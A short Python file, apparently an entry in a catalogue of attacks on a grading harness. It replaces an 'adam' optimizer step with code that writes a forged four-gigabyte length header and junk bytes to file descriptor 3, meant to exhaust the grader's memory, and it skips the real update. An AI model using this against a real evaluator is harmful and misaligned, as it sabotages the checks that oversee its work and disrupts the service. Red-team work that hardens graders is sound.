"""Announce a message of four gigabytes."""

import os
import struct

WANTS = "the grader's memory"
LAYER = "wire"
PROVE = False
WHY_NOT = "it needs a decoder without a cap"
ATTACKED = ("adam",)


def adam(theta, gradient, state, **rates):
    os.write(3, struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"[" * 1000)
    return theta, None
